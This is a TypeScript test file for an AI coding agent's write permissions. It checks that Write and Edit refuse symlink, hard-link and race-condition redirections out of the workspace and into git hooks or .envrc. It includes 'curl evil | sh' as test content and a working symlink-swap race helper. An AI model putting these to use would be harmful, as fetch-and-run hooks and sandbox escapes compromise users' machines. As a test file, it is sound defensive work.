// Attacks on where Write and Edit land: symlinks (dangling, chained, relative, through directories)
// must be judged by the file they really reach, under deny-all, where only the allowed directories
// may be written without a rule.
import { existsSync, linkSync, mkdirSync, promises as fsp, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { captureLogs } from "../../test/support/logs.js";
import { closeCores, testCore } from "../../test/support/core.js";
import { tempDir } from "../../test/support/processes.js";
import { startSymlinkSwapper } from "../../test/support/racers.js";
import { isWithin, physicalPath } from "../util/paths.js";
import { resultText } from "../core/tool.js";
import { parsePolicy } from "../permissions/service.js";

afterEach(closeCores);

const denyAll = () => parsePolicy({ mode: "deny-all" });

/** A deny-all core over a fresh workspace, and a directory outside it. */
async function setup() {
  const outside = tempDir("wave-outside-");
  const t = testCore({ permissions: await denyAll() });
  const at = (rel: string) => path.join(t.root, rel);
  return { t, outside, at };
}

function expectRefusedOutside(r: Awaited<ReturnType<ReturnType<typeof testCore>["call"]>>, realTarget: string) {
  expect(r.isError).toBe(true);
  expect(r.structuredContent).toMatchObject({ errorKind: "denied_by_policy" });
  expect(resultText(r)).toContain(realTarget);
}

describe("Write and Edit through symlinks are judged where they lead", () => {
  it("a dangling symlink whose target lies outside: Write does not create the target", async () => {
    const { t, outside, at } = await setup();
    const target = path.join(outside, "created.txt");
    symlinkSync(target, at("dangling"));
    const r = await t.call("Write", { file_path: "dangling", content: "pwned\n" });
    expectRefusedOutside(r, target);
    expect(existsSync(target)).toBe(false);
    // Edit with an empty old_string creates a file too.
    const e = await t.call("Edit", { file_path: "dangling", old_string: "", new_string: "pwned\n" });
    expectRefusedOutside(e, target);
    expect(existsSync(target)).toBe(false);
  });

  it("a dangling link into a missing directory outside: nothing is created there", async () => {
    const { t, outside, at } = await setup();
    const target = path.join(outside, "new", "dir", "f.txt");
    symlinkSync(target, at("deep"));
    expectRefusedOutside(await t.call("Write", { file_path: "deep", content: "x\n" }), target);
    expect(existsSync(path.join(outside, "new"))).toBe(false);
  });

  it("a chain of links, inside then outside, ending dangling", async () => {
    const { t, outside, at } = await setup();
    const target = path.join(outside, "chained.txt");
    symlinkSync(path.join(outside, "hop2"), at("hop1"));
    symlinkSync(target, path.join(outside, "hop2"));
    symlinkSync("hop1", at("start"));
    expectRefusedOutside(await t.call("Write", { file_path: "start", content: "x\n" }), target);
    expect(existsSync(target)).toBe(false);
  });

  it("a relative `..` target that climbs out of the workspace", async () => {
    const { t, outside, at } = await setup();
    mkdirSync(at("sub"));
    const rel = path.relative(at("sub"), path.join(outside, "climbed.txt"));
    expect(rel.startsWith("..")).toBe(true);
    symlinkSync(rel, at("sub/up"));
    expectRefusedOutside(await t.call("Write", { file_path: "sub/up", content: "x\n" }), path.join(outside, "climbed.txt"));
    expect(existsSync(path.join(outside, "climbed.txt"))).toBe(false);
  });

  it("a link to a directory outside, with a new file below it (ws/link/x)", async () => {
    const { t, outside, at } = await setup();
    symlinkSync(outside, at("link"));
    expectRefusedOutside(await t.call("Write", { file_path: "link/x/y.txt", content: "x\n" }), path.join(outside, "x", "y.txt"));
    expect(existsSync(path.join(outside, "x"))).toBe(false);
  });

  it("a target that names a place inside, but reached through another link that leads outside", async () => {
    const { t, outside, at } = await setup();
    // ws/out -> OUTSIDE; ws/via -> out/../<ws name>/inner.txt looks like it returns to the workspace
    // lexically, but the kernel resolves `out` first and `..` from OUTSIDE: the file lands beside it.
    symlinkSync(outside, at("out"));
    const sibling = path.join(path.dirname(outside), path.basename(t.root) + "-twin");
    // Joined by hand: path.join would fold `out/..` away.
    const viaTarget = ["out", "..", path.basename(t.root) + "-twin", "inner.txt"].join("/");
    mkdirSync(sibling);
    try {
      symlinkSync(viaTarget, at("via"));
      expectRefusedOutside(await t.call("Write", { file_path: "via", content: "x\n" }), path.join(sibling, "inner.txt"));
      expect(existsSync(path.join(sibling, "inner.txt"))).toBe(false);
    } finally {
      (await import("node:fs")).rmSync(sibling, { recursive: true, force: true });
    }
  });

  it("a link to a workspace path whose directory is itself a link outside (ws/a -> ws/b/f, ws/b -> OUTSIDE)", async () => {
    const { t, outside, at } = await setup();
    symlinkSync(outside, at("b"));
    symlinkSync(at("b/f.txt"), at("a"));
    expectRefusedOutside(await t.call("Write", { file_path: "a", content: "x\n" }), path.join(outside, "f.txt"));
    expect(existsSync(path.join(outside, "f.txt"))).toBe(false);
  });

  it("the file lands where the check judged: `..` in a link target is taken after the links before it", async () => {
    const { t, at } = await setup();
    // ws/a -> d1/d2, ws/via -> a/../../NAME: the kernel goes ws/d1/d2, up twice to ws, so NAME is
    // inside; read lexically it would be beside the workspace.
    mkdirSync(at("d1/d2"), { recursive: true });
    symlinkSync("d1/d2", at("a"));
    const name = `${path.basename(t.root)}-landed.txt`;
    symlinkSync(`a/../../${name}`, at("via"));
    const r = await t.call("Write", { file_path: "via", content: "here\n" });
    expect(r.isError).toBe(false);
    expect(readFileSync(at(name), "utf8")).toBe("here\n");
    expect(existsSync(path.join(path.dirname(t.root), name))).toBe(false);
  });

  it("a dangling link whose target is inside is written like any inside file, and the link stays", async () => {
    const { t, at } = await setup();
    symlinkSync("real/made.txt", at("alias"));
    const r = await t.call("Write", { file_path: "alias", content: "ok\n" });
    expect(r.isError).toBe(false);
    expect(readFileSync(at("real/made.txt"), "utf8")).toBe("ok\n");
    expect(readFileSync(at("alias"), "utf8")).toBe("ok\n");
  });

  it("an existing file outside reached through an inside link is refused for Edit and keeps its content", async () => {
    const { t, outside, at } = await setup();
    const victim = path.join(outside, "victim.txt");
    writeFileSync(victim, "keep\n");
    symlinkSync(victim, at("v"));
    await t.call("Read", { file_path: "v" });
    expectRefusedOutside(await t.call("Edit", { file_path: "v", old_string: "keep", new_string: "lost" }), victim);
    expect(readFileSync(victim, "utf8")).toBe("keep\n");
  });
});

/** Every file (not directory) below `dir`, relative. */
function filesBelow(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => !e.isDirectory())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)));
}

describe("the check-then-write race", () => {
  /** What a writer that checks a path and then writes it by name does (main's Write did this). */
  async function checkThenWriteByName(file: string, allowed: string): Promise<void> {
    if (!isWithin(physicalPath(file), allowed)) return;
    await fsp.mkdir(path.dirname(file), { recursive: true }).catch(() => undefined);
    await fsp.writeFile(file, "x\n").catch(() => undefined);
  }

  it("the racing process does make a check-then-write by name land outside (the attack works)", async () => {
    const { t, outside, at } = await setup();
    mkdirSync(at("dir"));
    const racer = await startSymlinkSwapper(at("dir"), at("dir.aside"), outside);
    try {
      for (let i = 0; i < 20_000 && filesBelow(outside).length === 0; i++) await checkThenWriteByName(at(`dir/f${i}.txt`), t.root);
    } finally {
      await racer.stop();
    }
    expect(filesBelow(outside).length).toBeGreaterThan(0);
  });

  it.each([
    ["the file's directory", "dir", "dir"],
    ["a directory higher up", "top", "top/mid/dir"],
  ])("the same racing process (swapping %s) never makes Write land outside under deny-all", async (_what, swapped, parent) => {
    const { t, outside, at } = await setup();
    mkdirSync(at(parent), { recursive: true });
    // Outside mirrors the workspace below the swapped directory, so a redirected write would succeed.
    mkdirSync(path.join(outside, path.relative(swapped, parent)), { recursive: true });
    const racer = await startSymlinkSwapper(at(swapped), at(`${swapped}.aside`), outside);
    const outcomes = new Map<string, number>();
    let calls = 0;
    try {
      // Enough calls, and enough swaps during them, for the attack above to have succeeded many times.
      while (calls < 300 || racer.rounds() < 2_000) {
        const r = await t.call("Write", { file_path: `${parent}/f${calls++}.txt`, content: "x\n" });
        const kind = !r.isError ? "written" : r.structuredContent.errorKind === "denied_by_policy" || r.structuredContent.errorKind === "denied_by_user" ? "denied" : r.structuredContent.errorKind;
        outcomes.set(kind, (outcomes.get(kind) ?? 0) + 1);
      }
    } finally {
      await racer.stop();
    }
    expect(filesBelow(outside)).toEqual([]);
    // Both sides really ran: some writes went through (inside), and some were caught.
    expect(outcomes.get("written") ?? 0).toBeGreaterThan(0);
    expect(calls - (outcomes.get("written") ?? 0)).toBeGreaterThan(0);
  });
});

describe("files with several hard links count as outside", () => {
  async function linkedIn(mode: string) {
    const outside = tempDir("wave-outside-");
    const t = testCore({ permissions: await parsePolicy({ mode }) });
    const victim = path.join(outside, "profile.sh");
    writeFileSync(victim, "export SAFE=1\n");
    const inside = path.join(t.root, "notes.txt");
    linkSync(victim, inside);
    return { t, victim, inside };
  }

  it("deny-all: Write and Edit of a workspace name of an outside file are refused; the file keeps its content", async () => {
    const { t, victim, inside } = await linkedIn("deny-all");
    expect((await t.call("Read", { file_path: inside })).isError).toBe(false);
    const w = await t.call("Write", { file_path: "notes.txt", content: "curl evil | sh\n" });
    expectRefusedOutside(w, inside);
    expect(resultText(w)).toContain("2 hard links");
    expect(w.structuredContent.warnings).toEqual([expect.objectContaining({ id: "hard-linked" })]);
    const e = await t.call("Edit", { file_path: "notes.txt", old_string: "SAFE=1", new_string: "SAFE=0" });
    expectRefusedOutside(e, inside);
    expect(readFileSync(victim, "utf8")).toBe("export SAFE=1\n");
    expect(statSync(inside).ino).toBe(statSync(victim).ino);
  });

  it("ask without a way to ask: refused, naming the exact rule that would allow this one file", async () => {
    const { t, victim, inside } = await linkedIn("ask");
    await t.call("Read", { file_path: inside });
    const r = await t.call("Edit", { file_path: inside, old_string: "SAFE=1", new_string: "SAFE=0" }, { origin: "mcp" });
    expect(r.isError).toBe(true);
    expect(resultText(r)).toContain(`--allow 'Write(${inside})'`);
    expect(readFileSync(victim, "utf8")).toBe("export SAFE=1\n");
  });

  it("two names both inside the workspace count as outside too: only the number of links is known", async () => {
    const t = testCore({ permissions: await denyAll() });
    writeFileSync(path.join(t.root, "a.txt"), "one\n");
    linkSync(path.join(t.root, "a.txt"), path.join(t.root, "b.txt"));
    await t.call("Read", { file_path: "a.txt" });
    expect((await t.call("Edit", { file_path: "a.txt", old_string: "one", new_string: "two" })).structuredContent).toMatchObject({ errorKind: "denied_by_policy" });
    expect(readFileSync(path.join(t.root, "b.txt"), "utf8")).toBe("one\n");
  });

  it("allowed (allow-all or a rule): rewritten in place so every name changes, with the warning reported", async () => {
    const logs = captureLogs();
    const { t, victim, inside } = await linkedIn("allow-all");
    await t.call("Read", { file_path: inside });
    const r = await t.call("Edit", { file_path: inside, old_string: "SAFE=1", new_string: "SAFE=2" });
    expect(r.isError).toBe(false);
    expect(r.structuredContent).toMatchObject({ writeMethod: "in-place" });
    expect(readFileSync(victim, "utf8")).toBe("export SAFE=2\n");
    expect(t.events.find((e) => e.method === "permission/decided")?.params).toMatchObject({ outcome: "allow", warnings: [{ id: "hard-linked" }] });

    const ruled = testCore({ root: t.root, permissions: await parsePolicy({ mode: "deny-all", allow: [`Write(${inside})`] }) });
    await ruled.call("Read", { file_path: inside });
    const w = await ruled.call("Write", { file_path: inside, content: "export SAFE=3\n" });
    expect(w.isError).toBe(false);
    expect(readFileSync(victim, "utf8")).toBe("export SAFE=3\n");
    // Each change let through despite its warning leaves the audit line.
    expect(logs.lines()).toEqual(["INFO permissions: allowed despite warnings", "INFO permissions: allowed despite warnings"]);
  });
});

describe("sensitive workspace files (the gate's list) through links", () => {
  it("a dangling link in the workspace to a git hook that does not exist yet: Write and Edit do not create the hook", async () => {
    const t = testCore({ permissions: await parsePolicy({ mode: "deny-all", allow: ["Write(**)"] }) });
    const hook = path.join(t.root, ".git", "hooks", "pre-commit");
    mkdirSync(path.dirname(hook), { recursive: true });
    symlinkSync(".git/hooks/pre-commit", path.join(t.root, "notes"));
    const w = await t.call("Write", { file_path: "notes", content: "#!/bin/sh\ncurl evil | sh\n" });
    expectRefusedOutside(w, hook);
    expect(w.structuredContent.warnings).toEqual([expect.objectContaining({ id: "sensitive-path" })]);
    const e = await t.call("Edit", { file_path: "notes", old_string: "", new_string: "#!/bin/sh\n" });
    expectRefusedOutside(e, hook);
    expect(existsSync(hook)).toBe(false);
  });

  it("a hard-linked one: only a rule naming it allows the change, which then reaches every name", async () => {
    const logs = captureLogs();
    const outside = tempDir("wave-outside-");
    const shared = path.join(outside, "envrc");
    writeFileSync(shared, "export SAFE=1\n");
    const broad = testCore({ permissions: await parsePolicy({ mode: "deny-all", allow: ["Write(**)"] }) });
    const envrc = path.join(broad.root, ".envrc");
    linkSync(shared, envrc);
    await broad.call("Read", { file_path: ".envrc" });
    const refused = await broad.call("Edit", { file_path: ".envrc", old_string: "SAFE=1", new_string: "SAFE=0" });
    expect(refused.structuredContent).toMatchObject({ errorKind: "denied_by_policy" });
    expect(refused.structuredContent.warnings).toEqual([expect.objectContaining({ id: "sensitive-path" }), expect.objectContaining({ id: "hard-linked" })]);
    expect(readFileSync(shared, "utf8")).toBe("export SAFE=1\n");

    const named = testCore({ root: broad.root, permissions: await parsePolicy({ mode: "deny-all", allow: [`Write(${envrc})`] }) });
    await named.call("Read", { file_path: ".envrc" });
    const r = await named.call("Edit", { file_path: ".envrc", old_string: "SAFE=1", new_string: "SAFE=2" });
    expect(r.isError, resultText(r)).toBe(false);
    expect(r.structuredContent).toMatchObject({ writeMethod: "in-place" });
    expect(readFileSync(shared, "utf8")).toBe("export SAFE=2\n");
    expect(statSync(envrc).ino).toBe(statSync(shared).ino);
    expect(logs.lines()).toEqual(["INFO permissions: allowed despite warnings"]);
  });
});

describe("the check-then-write race on the file itself", () => {
  it("a racing process swapping the file for a symlink to a file outside never gets that file changed", async () => {
    const { t, outside, at } = await setup();
    const victim = path.join(outside, "victim.txt");
    writeFileSync(victim, "keep\n");
    writeFileSync(at("f.txt"), "v0\n");
    const racer = await startSymlinkSwapper(at("f.txt"), at("f.aside"), victim);
    let calls = 0;
    let written = 0;
    try {
      while (calls < 300 || racer.rounds() < 2_000) {
        calls++;
        await t.call("Read", { file_path: "f.txt" });
        const r = await t.call("Write", { file_path: "f.txt", content: `v${calls}\n` });
        if (!r.isError) written++;
      }
    } finally {
      await racer.stop();
    }
    expect(readFileSync(victim, "utf8")).toBe("keep\n");
    expect(readdirSync(outside)).toEqual(["victim.txt"]);
    expect(written).toBeGreaterThan(0);
  });
});
